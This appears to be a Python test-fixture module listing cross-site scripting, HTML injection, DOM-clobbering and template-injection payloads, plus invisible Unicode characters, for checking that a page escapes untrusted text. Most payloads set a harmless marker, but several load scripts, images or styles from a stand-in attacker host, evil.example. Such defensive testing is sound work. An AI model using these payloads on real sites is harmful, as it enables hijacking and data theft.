"""Texts that a page must show as text: ways to run a script, load something, or break the page's own names.

And characters that hide, or turn the reading direction, which it must name.
"""

import unicodedata

SCRIPTS = (
    "<script>window.hit=1</script>",
    "<ScRiPt>window.hit=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:text/javascript,window.hit=1></script>",
    "<script type=module>import 'data:text/javascript,window.hit=1'</script>",
    '<script type=importmap>{"imports":{"./dom.js":"data:text/javascript,window.hit=1"}}</script>',
    "<script>/*</script>*/window.hit=1</script>",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "</script><script>window.hit=1</script>",
    "</title></style></textarea></noscript><script>window.hit=1</script>",
    "--><script>window.hit=1</script><!--",
    "]]><script>window.hit=1</script>",
    "<!--><script>window.hit=1</script>-->",
    "<script\x00>window.hit=1</script>",
    "<script\x0c>window.hit=1</script>",
)
"""Elements that run."""

HANDLERS = (
    '<img src=x onerror="window.hit=1">',
    "<img src=x onerror=window.hit=1//",
    "<img/src/onerror=window.hit=1>",
    "<img src=`x` onerror=`window.hit=1`>",
    "<img src=x:x onerror\x0b=window.hit=1>",
    "<img srcset=x onerror=window.hit=1>",
    "<image src=x onerror=window.hit=1>",
    "<audio src onerror=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<video poster=x onloadstart=window.hit=1><source src=x></video>",
    "<body onload=window.hit=1>",
    "<body onpageshow=window.hit=1>",
    "<body/onhashchange=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<select autofocus onfocus=window.hit=1><option>x</select>",
    "<textarea autofocus onfocus=window.hit=1>x</textarea>",
    "<details open ontoggle=window.hit=1>x</details>",
    "<marquee onstart=window.hit=1>x</marquee>",
    "<div onpointerover=window.hit=1 style=position:fixed;inset:0>x</div>",
    "<div tabindex=0 autofocus onfocusin=window.hit=1>x</div>",
    "<p contenteditable autofocus onfocus=window.hit=1>x</p>",
    "<button popovertarget=x>x</button><div id=x popover onbeforetoggle=window.hit=1>x</div>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=window.hit=1>x</b>",
    "<link rel=stylesheet href=data:,x onload=window.hit=1>",
    "<object data=x onerror=window.hit=1></object>",
)
"""Attributes that run."""

EMBEDDED = (
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.hit=1&gt;'></iframe>",
    "<iframe src='data:text/html,<script>parent.hit=1</script>'></iframe>",
    "<iframe onload=window.hit=1></iframe>",
    "<object data='data:text/html,<script>parent.hit=1</script>'></object>",
    "<embed src=javascript:window.hit=1>",
    "<portal src=javascript:window.hit=1 onload=window.hit=1>",
    "<frameset onload=window.hit=1><frame src=javascript:parent.hit=1></frameset>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><script xlink:href=data:,window.hit=1></script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:window.hit=1><text y=9>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=window.hit=1></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=window.hit=1/>#x'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit=1</script>'></iframe></foreignObject></svg>",
    "<math href=javascript:window.hit=1>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:window.hit=1>x</maction></math>",
    "<template shadowrootmode=open><script>window.hit=1</script></template>",
    "<x-x><template shadowrootmode=open><img src=x onerror=window.hit=1></template></x-x>",
)
"""Documents and drawings inside of the page."""

ADDRESSES = (
    "javascript:window.hit=1",
    "<a href=javascript:window.hit=1>x</a>",
    "<a href='java\tscript:window.hit=1'>x</a>",
    "<a href='&#106;avascript&colon;window.hit=1'>x</a>",
    "<a href='\x01javascript:window.hit=1'>x</a>",
    "[x](javascript:window.hit=1)",
    "![x](http://evil.example/?leak)",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:window.hit=1'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<form action=javascript:window.hit=1><button autofocus>x</button></form>",
    "<form id=f></form><button form=f formaction=javascript:window.hit=1>x</button>",
    "<link rel=prefetch href=http://evil.example/x>",
    "<img src=http://evil.example/x.png>",
)
"""Where a click, or nothing at all, leads to."""

STYLES = (
    "<style>@import 'http://evil.example/x.css'</style>",
    "<style>*{background:url(http://evil.example/x)}</style>",
    "<b style='background:url(http://evil.example/x)'>x</b>",
    "<div style='position:fixed;inset:0;z-index:9'>x</div>",
    "}*{display:none}",
    '"]{}*{display:none}[x="',
)
"""Style that hides the page, or loads."""

NAMES = (
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "<a id=main name=start>x</a><a id=main>y</a>",
    "<form id=view-play><input name=append><input name=hidden></form>",
    "<img name=getElementById><img name=body>",
    "play-input",
)
"""Names that the page, or every object, has already."""

TRICKS = (
    "'\"><img src=x onerror=window.hit=1>",
    "\"' autofocus onfocus=window.hit=1 x='\"",
    '\\"><svg onload=window.hit=1>',
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.hit=1&#62;",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
    "\uff1cscript\uff1ewindow.hit=1\uff1c/script\uff1e",
    "+ADw-script+AD4-window.hit=1+ADw-/script+AD4-",
    "<\x00img src=x onerror=window.hit=1>",
    "{{constructor.constructor('window.hit=1')()}}",
    "${window.hit=1}",
    "<%= window.hit=1 %>",
    "#{window.hit=1}",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'></noscript>",
    "<math><mtext><table><mglyph><style><img src onerror=window.hit=1>",
    "<svg></p><style><a id='</style><img src=x onerror=window.hit=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "<xmp><p title='</xmp><img src=x onerror=window.hit=1>'>",
    "<select><template><style><!--</style><a rel='--></style></template><img src=x onerror=window.hit=1>'>",
    '{"$type":"</script><script>window.hit=1</script>"}',
)
"""What other layers read once more: entities, escapes, templates, and markup that a second reading changes."""

HOSTILE = (*SCRIPTS, *HANDLERS, *EMBEDDED, *ADDRESSES, *STYLES, *NAMES, *TRICKS)
"""All of them, each once."""

FILLERS = "\u034f\u115f\u1160\u17b4\u17b5\u180b\u180f\u2800\u3164\ufe00\ufe0f\uffa0\U0001d159\U000e0100\U000e01ef"
"""Without ink, though no category says so: fillers, variant selectors, a braille pattern and a note head."""

HIDDEN = tuple(
    character
    for character in map(chr, [*range(0x20000), *range(0xE0000, 0xE1000)])  # the other planes have none
    if character in FILLERS or (unicodedata.category(character) in {"Cc", "Cf", "Zs", "Zl", "Zp"})
    if character not in " \t\n\r"
)
"""All of them: controls, marks of direction, tags, spaces but the usual ones."""
